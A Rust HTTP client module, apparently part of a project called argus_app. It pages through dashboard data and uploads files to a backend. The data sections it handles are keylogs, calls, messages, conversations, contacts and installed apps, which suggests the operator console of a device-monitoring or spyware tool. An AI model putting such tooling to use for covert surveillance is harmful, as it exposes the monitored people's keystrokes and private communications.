// Copyright 2026 Phillip Cloud
// Licensed under the Apache License, Version 2.0

use anyhow::{Context, Result, anyhow, bail};
use argus_app::{
    CallEntry, Contact, InstalledApp, KeylogEntry, MessageThread, Section, SectionPage,
    SectionRecords, UploadOutcome,
};
use reqwest::StatusCode;
use reqwest::blocking::Client as HttpClient;
use reqwest::blocking::multipart::{Form, Part};
use serde::Deserialize;
use serde::de::DeserializeOwned;
use std::fs::File;
use std::io::{self, Read};
use std::path::Path;
use std::time::Duration;
use url::Url;

/// Blocking client for the dashboard backend: the paged `/get_data`
/// query and the `/upload` multipart post.
#[derive(Debug, Clone)]
pub struct Client {
    base_url: String,
    timeout: Duration,
    http: HttpClient,
}

impl Client {
    pub fn new(base_url: &str, timeout: Duration) -> Result<Self> {
        let base_url = base_url.trim_end_matches('/').to_owned();
        if base_url.is_empty() {
            bail!("server.base_url must not be empty");
        }

        let http = HttpClient::builder()
            .timeout(timeout)
            .build()
            .context("build HTTP client")?;

        Ok(Self {
            base_url,
            timeout,
            http,
        })
    }

    pub fn base_url(&self) -> &str {
        &self.base_url
    }

    pub fn timeout(&self) -> Duration {
        self.timeout
    }

    /// Loads one page of a section. Transport errors, non-success
    /// statuses, and malformed bodies all collapse into the returned
    /// error; the caller keeps its previous view either way.
    pub fn fetch_page(&self, section: Section, page: u32, per_page: u32) -> Result<SectionPage> {
        if page == 0 {
            bail!("pages are numbered from 1");
        }

        let mut url = Url::parse(&format!("{}/get_data", self.base_url))
            .with_context(|| format!("build query URL for {}", section.as_str()))?;
        url.query_pairs_mut()
            .append_pair("section", section.as_str())
            .append_pair("page", &page.to_string())
            .append_pair("per_page", &per_page.to_string());

        let response = self
            .http
            .get(url)
            .send()
            .map_err(|error| connection_error(&self.base_url, error))?;

        let status = response.status();
        if !status.is_success() {
            let body = response.text().unwrap_or_default();
            return Err(clean_error_response(status, &body));
        }

        let body = response
            .text()
            .with_context(|| format!("read {} page body", section.as_str()))?;
        decode_page(section, &body)
    }

    /// Posts the file as multipart form data under the `file` field,
    /// reporting `(bytes_sent, bytes_total)` through the callback as
    /// the body streams out.
    pub fn upload<F>(&self, path: &Path, on_progress: F) -> Result<UploadOutcome>
    where
        F: Fn(u64, u64) + Send + 'static,
    {
        let file =
            File::open(path).with_context(|| format!("open upload file {}", path.display()))?;
        let total = file
            .metadata()
            .with_context(|| format!("stat upload file {}", path.display()))?
            .len();
        let file_name = path
            .file_name()
            .and_then(|name| name.to_str())
            .unwrap_or("upload.bin")
            .to_owned();

        let reader = ProgressReader {
            inner: file,
            sent: 0,
            total,
            on_progress: Box::new(on_progress),
        };
        let part = Part::reader_with_length(reader, total).file_name(file_name);
        let form = Form::new().part("file", part);

        let response = self
            .http
            .post(format!("{}/upload", self.base_url))
            .multipart(form)
            .send()
            .map_err(|error| connection_error(&self.base_url, error))?;

        let status = response.status();
        if status != StatusCode::OK {
            let body = response.text().unwrap_or_default();
            return Err(clean_error_response(status, &body));
        }

        let parsed: UploadResponse = response.json().context("decode upload response")?;
        Ok(UploadOutcome {
            reload_required: parsed.reload_required,
        })
    }
}

/// Percentage for a progress report; a zero-length file counts as done.
pub fn progress_percent(sent: u64, total: u64) -> u8 {
    if total == 0 {
        return 100;
    }
    ((sent.saturating_mul(100)) / total).min(100) as u8
}

struct ProgressReader<R> {
    inner: R,
    sent: u64,
    total: u64,
    on_progress: Box<dyn Fn(u64, u64) + Send>,
}

impl<R: Read> Read for ProgressReader<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let read = self.inner.read(buf)?;
        if read > 0 {
            self.sent += read as u64;
            (self.on_progress)(self.sent, self.total);
        }
        Ok(read)
    }
}

fn decode_page(section: Section, body: &str) -> Result<SectionPage> {
    let (records, meta) = match section {
        Section::Conversations => {
            let envelope: PageEnvelope<MessageThread> = decode_envelope(section, body)?;
            (SectionRecords::Conversations(envelope.data), envelope.meta)
        }
        Section::Calls => {
            let envelope: PageEnvelope<CallEntry> = decode_envelope(section, body)?;
            (SectionRecords::Calls(envelope.data), envelope.meta)
        }
        Section::Keylogs => {
            let envelope: PageEnvelope<KeylogEntry> = decode_envelope(section, body)?;
            (SectionRecords::Keylogs(envelope.data), envelope.meta)
        }
        Section::Contacts => {
            let envelope: PageEnvelope<Contact> = decode_envelope(section, body)?;
            (SectionRecords::Contacts(envelope.data), envelope.meta)
        }
        Section::Messages => {
            let envelope: PageEnvelope<MessageThread> = decode_envelope(section, body)?;
            (SectionRecords::Messages(envelope.data), envelope.meta)
        }
        Section::InstalledApps => {
            let envelope: PageEnvelope<InstalledApp> = decode_envelope(section, body)?;
            (SectionRecords::InstalledApps(envelope.data), envelope.meta)
        }
    };

    if meta.page == 0 {
        bail!(
            "{} envelope uses 0-based page numbering; pages start at 1",
            section.as_str()
        );
    }

    // total_pages >= 1 whenever records exist.
    let total_pages = if records.is_empty() {
        meta.total_pages
    } else {
        meta.total_pages.max(1)
    };

    Ok(SectionPage {
        records,
        page: meta.page,
        per_page: meta.per_page,
        total_pages,
    })
}

fn decode_envelope<T: DeserializeOwned>(section: Section, body: &str) -> Result<PageEnvelope<T>> {
    serde_json::from_str(body)
        .with_context(|| format!("decode {} page envelope", section.as_str()))
}

struct PageEnvelope<T> {
    data: Vec<T>,
    meta: PageMeta,
}

#[derive(Debug, Clone, Copy, Deserialize)]
struct PageMeta {
    #[serde(default = "default_page")]
    page: u32,
    #[serde(default)]
    per_page: u32,
    #[serde(default)]
    total_pages: u32,
}

const fn default_page() -> u32 {
    1
}

impl<'de, T: Deserialize<'de>> Deserialize<'de> for PageEnvelope<T> {
    fn deserialize<D>(deserializer: D) -> Result<Self, D::Error>
    where
        D: serde::Deserializer<'de>,
    {
        #[derive(Deserialize)]
        struct Wire<T> {
            data: Vec<T>,
            #[serde(flatten)]
            meta: PageMeta,
        }

        let wire = Wire::deserialize(deserializer)?;
        Ok(Self {
            data: wire.data,
            meta: wire.meta,
        })
    }
}

#[derive(Debug, Deserialize)]
struct UploadResponse {
    #[serde(default)]
    reload_required: bool,
}

fn connection_error(base_url: &str, error: reqwest::Error) -> anyhow::Error {
    anyhow!("cannot reach {base_url} -- is the backend running? ({error})")
}

fn clean_error_response(status: StatusCode, body: &str) -> anyhow::Error {
    if let Ok(parsed) = serde_json::from_str::<ErrorEnvelope>(body)
        && let Some(error) = parsed.error
        && !error.is_empty()
    {
        return anyhow!("server error ({}): {}", status.as_u16(), error);
    }

    if body.len() < 100 && !body.contains('{') && !body.trim().is_empty() {
        return anyhow!("server error ({}): {}", status.as_u16(), body.trim());
    }

    anyhow!("server returned {}", status.as_u16())
}

#[derive(Debug, Deserialize)]
struct ErrorEnvelope {
    error: Option<String>,
}
